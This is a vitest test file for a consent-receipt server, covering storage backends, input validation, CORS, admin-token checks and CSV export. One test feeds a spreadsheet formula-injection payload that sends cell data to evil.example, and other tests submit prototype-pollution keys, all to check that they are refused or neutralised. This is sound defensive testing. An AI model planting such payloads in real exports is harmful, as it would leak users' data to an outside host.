import { randomUUID } from 'node:crypto';
import { appendFileSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import Database from 'better-sqlite3';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { createServer, request as httpRequest } from 'node:http';
import { createReceiptHandler, openReceiptStore, serve, toNodeHandler, type ReceiptStore } from '../../src/server';
import { driver } from '../../src/server/store';
import { reachable } from '../support/imports';
import { startPostgres } from '../support/postgres';
import { checkTcf } from '../../src/iab/tcf/config';
import { fromCategories, type GvlVendor } from '../../src/iab/tcf/choices';
import { encodeTcString, gvlOf } from '../../src/iab/tcf/string';

/** A TC string as the iab build writes it (the real vendor list, v2.3), and its Additional Consent. */
const GVL_JSON = { ...JSON.parse(readFileSync(join(import.meta.dirname, '../fixtures/iab-gvl/vendor-list.json'), 'utf8')), tcfPolicyVersion: 5 };
const TCF = checkTcf({ cmpId: 123, cmpVersion: 1, vendors: [755, 21, 32], publisherCountryCode: 'DE' }, ['analytics', 'marketing']).tcf!;
const TC_STRING = encodeTcString(fromCategories({ analytics: true, marketing: false }, TCF, Object.values(GVL_JSON.vendors) as GvlVendor[]), TCF, gvlOf(GVL_JSON));
const ADDTL_CONSENT = '2~~dv.89.1097';
/** A GPP string with the usnat section (opted out of sale and sharing, GPC on), as IAB's library writes it. */
const GPP_STRING = 'DBABLA~BVQqAAAAAgA.QA';

const TOKEN = 'test-admin-token-0123456789';
const SITE = 'https://shop.example';

const receipt = (over: Record<string, unknown> = {}) => ({
  receiptId: randomUUID(), consentId: randomUUID(), decidedAt: new Date().toISOString(), source: 'banner',
  policies: { privacy: '2024-05-01', terms: '3' }, categories: { necessary: true, analytics: true, marketing: false },
  language: 'en', configHash: 'a1b2c3d4e5f60718', page: '/news/article', ...over,
});

const kinds = [
  {
    // The default of `consent-gate serve`: no database driver, no SQL (the tests that run SQL skip it).
    name: 'a JSON-lines file',
    async start() {
      const dir = mkdtempSync(join(tmpdir(), 'consent-gate-jsonl-'));
      return { location: join(dir, 'receipts.jsonl'), stop: async () => rmSync(dir, { recursive: true, force: true }) };
    },
    sql: undefined,
  },
  {
    name: 'SQLite',
    async start() {
      const dir = mkdtempSync(join(tmpdir(), 'consent-gate-sqlite-'));
      return { location: join(dir, 'receipts.db'), stop: async () => rmSync(dir, { recursive: true, force: true }) };
    },
    /** Runs SQL on its own connection, as an operator would. */
    async sql(location: string, query: string) {
      const db = new Database(location);
      try { return db.prepare(query).reader ? db.prepare(query).all() : db.prepare(query).run(); } finally { db.close(); }
    },
  },
  {
    name: 'PostgreSQL',
    async start() {
      const server = await startPostgres();
      return { location: server.url, stop: () => server.stop() };
    },
    async sql(location: string, query: string) {
      const c = new pg.Client(location);
      await c.connect();
      try { return (await c.query(query)).rows; } finally { await c.end(); }
    },
  },
];

describe.each(kinds)('receipts server on $name', (kind) => {
  let location: string;
  let stop: () => Promise<void>;
  let store: ReceiptStore;
  let handle: (r: Request) => Promise<Response>;
  const all = async () => (await store.between('0000-01-01T00:00:00.000Z', '9999-12-31T00:00:00.000Z')).length;
  const post = (body: unknown, type = 'text/plain', headers: Record<string, string> = {}) => handle(new Request('http://site.test/consent/receipts', {
    method: 'POST', headers: { 'content-type': type, ...headers }, body: (typeof body === 'string' || body instanceof Uint8Array ? body : JSON.stringify(body)) as BodyInit,
  }));
  const get = (path: string, token: string | null = TOKEN) =>
    handle(new Request(`http://site.test${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} }));

  beforeAll(async () => {
    ({ location, stop } = await kind.start());
    store = await openReceiptStore(location);
    handle = createReceiptHandler({ store, adminToken: TOKEN, allowOrigins: [SITE] });
  }, 60_000);
  afterAll(async () => {
    await store?.close();
    await stop?.();
  });

  test('stores a receipt sent as text/plain, with the server\'s received-at time', async () => {
    const r = receipt();
    const before = new Date().toISOString();
    const res = await post(r);
    const after = new Date().toISOString();
    expect(res.status).toBe(201);
    const body = await res.json();
    expect(body).toMatchObject({ receiptId: r.receiptId, stored: true });
    expect(body.receivedAt >= before && body.receivedAt <= after).toBe(true);
    const stored = await (await get(`/consent/receipts?consentId=${r.consentId}`)).json();
    expect(stored).toEqual([{ ...r, receivedAt: body.receivedAt }]);
  });

  test('stores a receipt sent as application/json', async () => {
    const r = receipt();
    expect((await post(r, 'application/json; charset=utf-8')).status).toBe(201);
    expect((await store.byConsentId(r.consentId)).map((x) => x.receiptId)).toEqual([r.receiptId]);
  });

  test('answers 200 to a repeated receiptId and keeps the first copy', async () => {
    const r = receipt();
    const first = await (await post(r)).json();
    const res = await post({ ...r, categories: { necessary: true, analytics: false, marketing: false } });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ receiptId: r.receiptId, receivedAt: first.receivedAt, stored: false });
    const stored = await store.byConsentId(r.consentId);
    expect(stored).toHaveLength(1);
    expect(stored[0]!.categories.analytics).toBe(true);
  });

  test('stores 50 concurrent repeats of one receipt exactly once over HTTP', async () => {
    // (A file has one owner: the server gets a file of its own.)
    const server = await serve({ db: kind.sql ? location : location.replace(/\.jsonl$/, '-serve.jsonl'), port: 0, adminToken: TOKEN });
    try {
      const r = receipt();
      const statuses = await Promise.all(Array.from({ length: 50 }, () =>
        fetch(server.url, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: JSON.stringify(r) }).then((x) => x.status)));
      expect(statuses.filter((s) => s === 201)).toHaveLength(1);
      expect(statuses.filter((s) => s === 200)).toHaveLength(49);
      expect(await (kind.sql ? store : server.store).byConsentId(r.consentId)).toHaveLength(1);
    } finally {
      await server.close();
    }
  });

  test('keeps every decision of a visitor as its own row: a withdrawal is a new receipt', async () => {
    const consentId = randomUUID();
    const first = receipt({ consentId, decidedAt: '2026-01-01T10:00:00.000Z' });
    const change = receipt({ consentId, decidedAt: '2026-02-01T10:00:00.000Z', source: 'preferences', categories: { necessary: true, analytics: false, marketing: false } });
    const withdrawal = receipt({ consentId, decidedAt: '2026-03-01T10:00:00.000Z', source: 'reset', policies: {}, categories: { necessary: true, analytics: false, marketing: false } });
    for (const r of [first, change, withdrawal]) expect((await post(r)).status).toBe(201);
    const stored = await (await get(`/consent/receipts?consentId=${consentId.toUpperCase()}`)).json();
    expect(stored.map((x: { source: string }) => x.source)).toEqual(['banner', 'preferences', 'reset']);
  });

  test.skipIf(!kind.sql)('the database refuses updates: receipts are append-only', async () => {
    const r = receipt();
    await post(r);
    await expect(kind.sql!(location, `UPDATE consent_receipts SET source = 'api' WHERE receipt_id = '${r.receiptId}'`)).rejects.toThrow(/append-only/);
    expect((await store.byConsentId(r.consentId))[0]!.source).toBe('banner');
  });

  test.skipIf(!kind.sql)('migrates once: reopening keeps the receipts, two servers starting together both work', async () => {
    const r = receipt();
    await post(r);
    const [a, b] = await Promise.all([openReceiptStore(location), openReceiptStore(location)]);
    try {
      expect((await a.byConsentId(r.consentId))[0]!.receiptId).toBe(r.receiptId);
      expect((await b.byConsentId(r.consentId))).toHaveLength(1);
    } finally {
      await a.close();
      await b.close();
    }
    expect(await kind.sql!(location, 'SELECT version FROM consent_gate_migrations ORDER BY version')).toEqual([{ version: 1 }, { version: 2 }, { version: 3 }, { version: 4 }, { version: 5 }, { version: 6 }]);
  });

  const bad: [string, unknown, RegExp][] = [
    ['not JSON', '{"receiptId": ', /body: expected JSON/],
    ['an empty body', '', /body: expected JSON/],
    ['a JSON array', [receipt()], /body: expected a JSON object/],
    ['JSON null', 'null', /body: expected a JSON object/],
    ['an unknown field', receipt({ extra: 1 }), /extra: unknown field/],
    ['an IP address', receipt({ ip: '203.0.113.9' }), /ip: unknown field/],
    ['a user-agent', receipt({ userAgent: 'Mozilla/5.0' }), /userAgent: unknown field/],
    ['a receiptId that is not a uuid', receipt({ receiptId: 'abc' }), /receiptId: expected a uuid/],
    ['a receiptId with more after the uuid', receipt({ receiptId: `${randomUUID()}x` }), /receiptId/],
    ['a numeric consentId', receipt({ consentId: 42 }), /consentId: expected a uuid/],
    ['a decidedAt in words', receipt({ decidedAt: 'yesterday' }), /decidedAt/],
    ['a decidedAt without time', receipt({ decidedAt: '2026-11-27' }), /decidedAt/],
    ['a decidedAt with an offset', receipt({ decidedAt: '2026-11-27T10:00:00.000+02:00' }), /decidedAt/],
    ['a decidedAt on 30 February', receipt({ decidedAt: '2026-02-30T10:00:00.000Z' }), /decidedAt/],
    ['a decidedAt as a number', receipt({ decidedAt: Date.now() }), /decidedAt/],
    ['an unknown source', receipt({ source: 'cookie-wall' }), /source: expected one of/],
    ['policies as an array', receipt({ policies: ['privacy'] }), /policies: expected an object/],
    ['a numeric policy version', receipt({ policies: { privacy: 1 } }), /policies\.privacy: expected a version/],
    ['a policy version with a space', receipt({ policies: { privacy: 'v 1' } }), /policies\.privacy/],
    ['a policy id starting with a digit', receipt({ policies: { '1st': 'x' } }), /policies\.1st: expected an id/],
    ['a __proto__ category', JSON.stringify(receipt()).replace(/"categories":\{[^}]*\}/, '"categories":{"__proto__":true}'), /categories\.__proto__/],
    ['no categories', receipt({ categories: {} }), /categories: expected at least 1 entry/],
    ['a category given as "yes"', receipt({ categories: { analytics: 'yes' } }), /categories\.analytics: expected true or false/],
    ['a category given as 1', receipt({ categories: { analytics: 1 } }), /categories\.analytics/],
    ['a language that is not a code', receipt({ language: 'english!!' }), /language/],
    ['an empty configHash', receipt({ configHash: '' }), /configHash/],
    ['a configHash of 129 characters', receipt({ configHash: 'a'.repeat(129) }), /configHash/],
    ['a page without a leading slash', receipt({ page: 'news' }), /page/],
    ['a page with a query', receipt({ page: '/search?q=me@example.com' }), /page/],
    ['a page with a fragment', receipt({ page: '/a#top' }), /page/],
    ['a full URL as page', receipt({ page: 'https://shop.example/a' }), /page/],
    ['a page with a line break', receipt({ page: '/a\nb' }), /page/],
    ['a page of 2049 characters', receipt({ page: '/' + 'a'.repeat(2048) }), /page/],
    // IAB TCF: the TC string must read as one (v2, every segment whole); Additional Consent as Google writes it.
    ['a tcString that is not base64url', receipt({ tcString: TC_STRING.replace(/^./, '!') }), /^tcString: expected a TC string \(at most/],
    ['a tcString as a number', receipt({ tcString: 42 }), /^tcString: expected a TC string/],
    ['a tcString cut short', receipt({ tcString: TC_STRING.slice(0, 30) }), /^tcString: expected a TC string \(v2\): cut short/],
    ['a garbled tcString', receipt({ tcString: 'B' + TC_STRING.slice(1) }), /^tcString: expected a TC string \(v2\): version/],
    ['a tcString with its disclosed-vendors segment twice', receipt({ tcString: `${TC_STRING}.${TC_STRING.split('.')[1]}` }), /^tcString: expected a TC string \(v2\): a disclosed-vendors segment/],
    ['a tcString with bits set in its padding', receipt({ tcString: TC_STRING.split('.')[0]!.replace(/.$/, '_') + '.' + TC_STRING.split('.')[1] }), /^tcString: expected a TC string \(v2\)/],
    ['a tcString of 8,193 characters', receipt({ tcString: 'C'.repeat(8193) }), /^tcString: expected a TC string \(at most 8192 characters\)/],
    ['an addtlConsent in another format', receipt({ tcString: TC_STRING, addtlConsent: '2~89,1097~dv.' }), /^addtlConsent: expected Additional Consent like/],
    ['an addtlConsent of 8,193 characters', receipt({ tcString: TC_STRING, addtlConsent: '1~' + '1.'.repeat(4095) + '1' }), /^addtlConsent: expected Additional Consent like/],
    // GPP: the string must decode with IAB's own library, every section its header lists.
    ['a gppString that is no GPP string', receipt({ gppString: 'hello' }), /^gppString: expected a GPP string \(D/],
    ['a gppString whose header lists a section it lacks', receipt({ gppString: GPP_STRING.split('~')[0] }), /^gppString: expected a GPP string that IAB's decoder reads: .*number of sections/],
    ['a gppString with a section more than its header lists', receipt({ gppString: `${GPP_STRING}~${GPP_STRING.split('~')[1]}` }), /^gppString: expected a GPP string that IAB's decoder reads: .*number of sections/],
    ['a gppString whose section does not decode', receipt({ gppString: 'DBABLA~B' }), /^gppString: expected a GPP string that IAB's decoder reads: Unable to decode UsNatCoreSegment/],
    ['a gppString whose header names another section than it has', receipt({ gppString: `DBABMA~${GPP_STRING.split('~')[1]}` }), /^gppString: expected a GPP string that IAB's decoder reads: Unable to decode TcfEuV2CoreSegment/],
  ];
  for (const field of Object.keys(receipt())) {
    const r: Record<string, unknown> = receipt();
    delete r[field];
    bad.push([`no ${field}`, r, new RegExp(`^${field}: expected`)]);
  }

  test.each(bad)('refuses %s with 400 and the reason, storing nothing', async (_, body, reason) => {
    const n = await all();
    const res = await post(body);
    expect(res.status).toBe(400);
    expect((await res.json()).error).toMatch(reason);
    expect(await all()).toBe(n);
  });

  test('stores a receipt\'s TC string, Additional Consent and GPP string, gives them back, exports them and counts the decision', async () => {
    const r = receipt({ tcString: TC_STRING, addtlConsent: ADDTL_CONSENT, gppString: GPP_STRING });
    const day = new Date().toISOString().slice(0, 10);
    const stats = async () => (await (await get(`/consent/stats?from=${day}&to=${day}`)).json()).total.decisions as number;
    const decisions = await stats();
    const res = await post(r);
    expect(res.status).toBe(201);
    const { receivedAt } = await res.json();
    expect(await (await get(`/consent/receipts?consentId=${r.consentId}`)).json()).toEqual([{ ...r, receivedAt }]);
    const csv = (await (await get(`/consent/receipts.csv?from=${receivedAt}&to=${new Date(Date.parse(receivedAt) + 1).toISOString()}`)).text()).trimEnd().split('\r\n');
    expect(csv[0]!.endsWith(',tcString,addtlConsent,gppString')).toBe(true);
    expect(csv.find((l) => l.includes(r.receiptId))!.endsWith(`,${TC_STRING},${ADDTL_CONSENT},${GPP_STRING}`)).toBe(true);
    expect(await stats()).toBe(decisions + 1);
    // A receipt without them still reads back without them (no null fields).
    const plain = receipt();
    await post(plain);
    expect(Object.keys((await store.byConsentId(plain.consentId))[0]!)).not.toContain('tcString');
    expect(Object.keys((await store.byConsentId(plain.consentId))[0]!)).not.toContain('gppString');
  });

  test('refuses a body that is not UTF-8 with 400, storing nothing', async () => {
    const n = await all();
    const bytes = new TextEncoder().encode(JSON.stringify(receipt({ page: '/caf-' })));
    bytes[bytes.indexOf(0x2d, bytes.length - 20)] = 0xff;
    const res = await post(bytes);
    expect(res.status).toBe(400);
    expect(await all()).toBe(n);
  });

  test('refuses a body over 16 KiB with 413, storing nothing', async () => {
    const n = await all();
    const json = JSON.stringify(receipt());
    const res = await post(json.slice(0, -1) + ',"pad":"' + 'x'.repeat(16384) + '"}');
    expect(res.status).toBe(413);
    expect(await all()).toBe(n);
  });

  test('refuses other content types with 415, storing nothing', async () => {
    const n = await all();
    expect((await post(receipt(), 'application/x-www-form-urlencoded')).status).toBe(415);
    expect((await handle(new Request('http://site.test/consent/receipts', { method: 'POST', body: new Blob([JSON.stringify(receipt())]) }))).status).toBe(415);
    expect(await all()).toBe(n);
  });

  test('the audit routes need the admin token', async () => {
    const r = receipt();
    await post(r);
    for (const token of [null, 'wrong-token', TOKEN + 'x']) {
      const res = await get(`/consent/receipts?consentId=${r.consentId}`, token);
      expect(res.status).toBe(401);
      expect(await res.text()).not.toContain(r.receiptId);
      expect((await get('/consent/receipts.csv', token)).status).toBe(401);
    }
    const open = createReceiptHandler({ store });
    expect((await open(new Request(`http://site.test/consent/receipts?consentId=${r.consentId}`, { headers: { authorization: 'Bearer anything' } }))).status).toBe(401);
    expect((await get('/consent/receipts?consentId=nope')).status).toBe(400);
  });

  test('exports the receipts received in a time range as CSV', async () => {
    const r = receipt({ page: '/a,"quoted"' });
    const { receivedAt } = await (await post(r)).json();
    const after = new Date(Date.parse(receivedAt) + 1).toISOString();
    const res = await get(`/consent/receipts.csv?from=${receivedAt}&to=${after}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const lines = (await res.text()).trimEnd().split('\r\n');
    expect(lines[0]).toBe('receivedAt,receiptId,consentId,decidedAt,source,language,configHash,page,policies,categories,required,variant,region,mode,tcString,addtlConsent,gppString');
    const line = lines.find((l) => l.includes(r.receiptId));
    expect(line).toBe(`${receivedAt},${r.receiptId},${r.consentId},${r.decidedAt},banner,en,a1b2c3d4e5f60718,"/a,""quoted""","{""privacy"":""2024-05-01"",""terms"":""3""}","{""necessary"":true,""analytics"":true,""marketing"":false}",,,,,,,`);
    const empty = await (await get(`/consent/receipts.csv?from=${after}&to=${after}`)).text();
    expect(empty.trimEnd().split('\r\n')).toHaveLength(1);
    const byDate = await (await get(`/consent/receipts.csv?from=${receivedAt.slice(0, 10)}`)).text();
    expect(byDate).toContain(r.receiptId);
    expect((await get('/consent/receipts.csv?from=last-week')).status).toBe(400);
  });

  test('answers CORS preflights and POSTs for allowed origins only', async () => {
    const preflight = (origin: string) => handle(new Request('http://site.test/consent/receipts', {
      method: 'OPTIONS', headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' },
    }));
    const ok = await preflight(SITE);
    expect(ok.status).toBe(204);
    expect(ok.headers.get('access-control-allow-origin')).toBe(SITE);
    expect(ok.headers.get('access-control-allow-methods')).toBe('POST');
    expect(ok.headers.get('access-control-allow-headers')).toBe('content-type');
    const denied = await preflight('https://evil.example');
    expect(denied.status).toBe(403);
    expect(denied.headers.get('access-control-allow-origin')).toBeNull();
    expect((await post(receipt(), 'text/plain', { origin: SITE })).headers.get('access-control-allow-origin')).toBe(SITE);
  });

  test('answers 405 to other methods and 404 to other paths', async () => {
    expect((await handle(new Request('http://site.test/consent/receipts', { method: 'PUT', body: '{}' }))).status).toBe(405);
    expect((await handle(new Request('http://site.test/consent/receipts', { method: 'DELETE' }))).status).toBe(405);
    expect((await handle(new Request('http://site.test/consent/other'))).status).toBe(404);
  });

  // Issue 10, item 5: each of these was refused with 400 by the old server, and the client dropped it.
  const clientMade: [string, Record<string, unknown>][] = [
    ['a language tag of four subtags', { language: 'de-de-u-co-phonebk' }],
    ['a language tag with a private use part', { language: 'en-us-x-twain' }],
    ['a visitor clock a day fast', { decidedAt: new Date(Date.now() + 864e5 + 60e3).toISOString() }],
    ['a visitor clock a year fast', { decidedAt: new Date(Date.now() + 365 * 864e5).toISOString() }],
    ['a visitor clock reset to 1970', { decidedAt: '1970-01-01T00:00:05.000Z' }],
    ['300 categories with 32-character ids', { categories: Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`c${String(i).padStart(31, '0')}`, i % 2 === 0])) }],
    ['region, mode, variant and required', { region: 'US-CA', mode: 'opt-out', variant: 'Short wording (B)', required: ['necessary'] }],
  ];
  test.each(clientMade)('stores a receipt with %s, and reads it back as sent', async (_, over) => {
    const r = receipt(over);
    const res = await post(r);
    expect(res.status).toBe(201);
    const { receivedAt } = await res.json();
    expect(await store.byConsentId(r.consentId)).toEqual([{ ...r, receivedAt }]);
  });

  test('refuses optional fields that are malformed', async () => {
    for (const [over, reason] of [
      [{ region: 'Germany' }, /^region/], [{ mode: 'opt-maybe' }, /^mode/], [{ variant: '' }, /^variant/], [{ variant: 'a\u0000b' }, /^variant/],
      [{ required: 'necessary' }, /^required/], [{ required: ['marketing', 'marketing'] }, /^required\[1\]/], [{ required: ['ads'] }, /^required\[0\]/],
      [{ required: ['constructor'] }, /^required\[0\]/],
    ] as const) {
      const res = await post(receipt(over));
      expect(res.status).toBe(400);
      expect((await res.json()).error).toMatch(reason);
    }
  });

  test('refuses policy versions with control characters or lone surrogates, which would not read back as sent', async () => {
    for (const version of ['a\u0000b', 'v\u0007', '\ud800x']) {
      const res = await post(receipt({ policies: { privacy: version } }));
      expect(res.status).toBe(400);
    }
  });

  // Issue 10, item 10: the old export wrote these cells as they were; a spreadsheet runs them as formulas.
  test('the CSV export neutralises cells a spreadsheet would run as formulas', async () => {
    const r = receipt({ configHash: '-2-3', variant: '=HYPERLINK("https://evil.example/?"&A1)', policies: { privacy: '@SUM(1)' } });
    const { receivedAt } = await (await post(r)).json();
    const csv = await (await get(`/consent/receipts.csv?from=${receivedAt}&to=${new Date(Date.parse(receivedAt) + 1).toISOString()}`)).text();
    const line = csv.split('\r\n').find((l) => l.includes(r.receiptId))!;
    expect(line).toContain(`,"'-2-3",`);
    expect(line).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1)",`);
    // No cell of the line starts with a formula character once the quotes are read.
    const cells = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  // Issue 10, item 11: the old server hid its answer from other origins but stored their POSTs.
  test('refuses POSTs from origins not allowed, storing nothing; its own origin and requests without Origin are taken', async () => {
    const n = await all();
    for (const origin of ['https://evil.example', 'null', 'https://shop.example.evil.example', 'http://shop.example']) {
      const res = await post(receipt(), 'text/plain', { origin });
      expect(res.status).toBe(403);
      expect((await res.json()).error).toMatch(/^origin/);
    }
    expect(await all()).toBe(n);
    expect((await post(receipt(), 'text/plain', { origin: SITE })).status).toBe(201);
    expect((await post(receipt(), 'text/plain', { origin: 'http://site.test' })).status).toBe(201);
    expect((await post(receipt(), 'text/plain', { origin: 'https://consent.example', host: 'consent.example' })).status).toBe(201);
    expect((await post(receipt())).status).toBe(201);
    // Without allowOrigins, only the endpoint's own origin.
    const own = createReceiptHandler({ store });
    const from = (origin: string) => own(new Request('http://site.test/consent/receipts', { method: 'POST', headers: { 'content-type': 'text/plain', origin }, body: JSON.stringify(receipt()) }));
    expect((await from(SITE)).status).toBe(403);
    expect((await from('http://site.test')).status).toBe(201);
  });

  // Issue 10, item 15: the old server loaded every row before answering, so a row stored while the answer
  // was being read could never be in it. Here it is: rows are fetched batch by batch as the reader takes them.
  test('streams a look-up and an export in batches: a row stored while the answer is read is in it', async () => {
    const consentId = randomUUID();
    const at = new Date().toISOString();
    await Promise.all(Array.from({ length: 1100 }, () => store.add({ ...receipt({ consentId }) } as never, at)));
    const read = async (path: string) => {
      const res = await get(path);
      expect(res.status).toBe(200);
      const reader = res.body!.getReader();
      const chunks: Uint8Array[] = [(await reader.read()).value!];
      const late = receipt({ consentId });
      await store.add(late as never, new Date(Date.parse(at) + 1).toISOString());
      for (let c = await reader.read(); !c.done; c = await reader.read()) chunks.push(c.value);
      return { late, text: Buffer.concat(chunks).toString('utf8'), chunks: chunks.length };
    };
    const json = await read(`/consent/receipts?consentId=${consentId}`);
    const rows = JSON.parse(json.text);
    expect(rows).toHaveLength(1101);
    expect(rows[1100].receiptId).toBe(json.late.receiptId);
    expect(json.chunks).toBeGreaterThan(10);
    const csv = await read(`/consent/receipts.csv?from=${at}`);
    const lines = csv.text.trimEnd().split('\r\n').filter((l) => l.includes(consentId));
    expect(lines).toHaveLength(1102);
    expect(lines.at(-1)).toContain(csv.late.receiptId);
  }, 60_000);
});

describe('the JSON-lines file', () => {
  const dir = () => mkdtempSync(join(tmpdir(), 'consent-gate-jsonl-'));

  test('has one owner: a second open is refused naming the process; a lock of a process that is gone is taken over', async () => {
    const file = join(dir(), 'r.jsonl');
    const store = await openReceiptStore(file);
    await expect(openReceiptStore(file)).rejects.toThrow(`is in use by process ${process.pid}`);
    await store.close();
    // A lock left by a crash (a pid that no longer runs): taken over.
    writeFileSync(`${file}.lock`, '2147483646');
    const again = await openReceiptStore(file);
    expect(again.kind).toBe('file');
    await again.close();
    expect(existsSync(`${file}.lock`)).toBe(false);
  });

  test('skips a line cut short by a crash and keeps every acknowledged receipt across reopening', async () => {
    const file = join(dir(), 'r.jsonl');
    const store = await openReceiptStore(file);
    const kept = receipt();
    expect(await store.add(kept as never, '2026-12-01T10:00:00.000Z')).toEqual({ stored: true, receivedAt: '2026-12-01T10:00:00.000Z' });
    await store.close();
    appendFileSync(file, '{"receiptId":"cut sho'); // the write a crash interrupted (never acknowledged)
    const reopened = await openReceiptStore(file);
    const next = receipt();
    expect((await reopened.add(next as never, '2026-12-01T10:00:01.000Z')).stored).toBe(true);
    expect((await reopened.add(kept as never, '2026-12-01T10:00:02.000Z'))).toEqual({ stored: false, receivedAt: '2026-12-01T10:00:00.000Z' });
    await reopened.close();
    const third = await openReceiptStore(file);
    expect((await third.between('2026-01-01', '2027-01-01')).map((r) => r.receiptId)).toEqual([kept.receiptId, next.receiptId]);
    await third.close();
  });
});

describe('the SQLite file', () => {
  test('is a WAL database that another connection reads while the server writes', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'consent-gate-sqlite-'));
    const file = join(dir, 'r.db');
    const store = await openReceiptStore(file);
    try {
      const r = receipt();
      const handle = createReceiptHandler({ store });
      await handle(new Request('http://x/consent/receipts', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: JSON.stringify(r) }));
      const db = new Database(file, { readonly: true });
      expect(db.pragma('journal_mode', { simple: true })).toBe('wal');
      expect(db.prepare('SELECT receipt_id FROM consent_receipts').pluck().all()).toEqual([r.receiptId]);
      db.close();
    } finally {
      await store.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('the Node adapter', () => {
  // Issue 10, item 15: the old adapter built a Request for TRACE, which the Fetch API refuses, and answered 500.
  test('answers 405 to TRACE and other methods, never 500', async () => {
    const server = await serve({ db: ':memory:', port: 0 });
    const { port } = server.server.address() as { port: number };
    const send = (method: string, path = '/consent/receipts') => new Promise<number>((resolve, reject) => {
      const req = httpRequest({ host: '127.0.0.1', port, method, path }, (res) => { res.resume(); resolve(res.statusCode!); });
      req.on('error', reject);
      req.end();
    });
    try {
      for (const method of ['TRACE', 'PROPFIND', 'PURGE', 'PATCH', 'DELETE', 'PUT']) expect([method, await send(method)]).toEqual([method, 405]);
      // A method Node's parser does not know (TRACK) is answered 400 by Node itself.
      expect(await send('TRACK')).toBe(400);
      // Found by the fuzzer: a request target of '//' was a 500 (the adapter read it as a URL without a host).
      expect(await send('POST', '//')).toBe(404);
      expect(await send('GET', '//evil.example/consent/receipts')).toBe(404);
    } finally {
      await server.close();
    }
  });

  test('answers 413 to a 1 MB body without reading it all', async () => {
    const server = await serve({ db: ':memory:', port: 0 });
    try {
      const res = await fetch(server.url, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'x'.repeat(1 << 20) });
      expect(res.status).toBe(413);
      expect(res.headers.get('connection')).toBe('close');
      expect(await server.store.between('0000', '9999')).toEqual([]);
    } finally {
      await server.close();
    }
  });

  test('as middleware, passes other paths on to next() with their body unread', async () => {
    const store = await openReceiptStore(':memory:');
    const mw = toNodeHandler(createReceiptHandler({ store }));
    const http = createServer((req, res) => mw(req, res, () => {
      let body = '';
      req.on('data', (c) => { body += c; });
      req.on('end', () => res.end(`next saw ${req.url} ${body}`));
    }));
    await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
    const { port } = http.address() as { port: number };
    try {
      const other = await fetch(`http://127.0.0.1:${port}/api/orders`, { method: 'POST', body: '{"order":1}' });
      expect(await other.text()).toBe('next saw /api/orders {"order":1}');
      const mine = await fetch(`http://127.0.0.1:${port}/consent/receipts`, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: JSON.stringify(receipt()) });
      expect(mine.status).toBe(201);
    } finally {
      http.close();
      await store.close();
    }
  });
});

describe('the server entry', () => {
  test('says which package to install when a database driver is missing', async () => {
    const missing = 'consent-gate-no-such-driver';
    await expect(driver(() => import(/* @vite-ignore */ missing), 'pg')).rejects.toThrow('this store needs the pg package: npm i pg');
  });

  test('rejects an allowOrigins entry that is not an origin', async () => {
    const store = await openReceiptStore(':memory:');
    expect(() => createReceiptHandler({ store, allowOrigins: ['shop.example'] })).toThrow(/allowOrigins/);
    await store.close();
  });

  test('is not reachable from the main entry, which stays free of server code', () => {
    const seen = reachable(resolve(import.meta.dirname, '../../src/index.ts'));
    expect([...seen].some((f) => f.endsWith('src/core/store.ts'))).toBe(true);
    expect([...seen].filter((f) => f.includes('/src/server'))).toEqual([]);
  });

  test('touches no window or document when imported', async () => {
    const touched: string[] = [];
    for (const name of ['window', 'document', 'location', 'localStorage']) {
      Object.defineProperty(globalThis, name, { configurable: true, get() { touched.push(name); return undefined; } });
    }
    try {
      vi.resetModules();
      await import('../../src/server');
      await import('../../src/server/sqlite');
      await import('../../src/server/postgres');
      expect(touched).toEqual([]);
    } finally {
      for (const name of ['window', 'document', 'location', 'localStorage']) delete (globalThis as Record<string, unknown>)[name];
    }
  });
});

describe('the admin token', () => {
  const store = {} as ReceiptStore; // never reached: the check comes first
  test.each([
    ['short', 'x'.repeat(15), /^consent-gate: adminToken: expected at least 16 characters without spaces .*, got 15 characters$/],
    ['with a space', 'correct horse battery staple', /got 28 characters with a space$/],
    ['not a string', 1234567890123456, /^consent-gate: adminToken: expected a string, got number$/],
  ])('%s: refused, naming the field and never the token', (_, token, message) => {
    expect(() => createReceiptHandler({ store, adminToken: token as string })).toThrow(message);
    try { createReceiptHandler({ store, adminToken: token as string }); } catch (e) { expect((e as Error).message).not.toContain(String(token)); }
  });
  test('none (undefined or empty) or 16 characters: accepted', () => {
    for (const adminToken of [undefined, '', 'x'.repeat(16)]) expect(typeof createReceiptHandler({ store, adminToken })).toBe('function');
  });
});
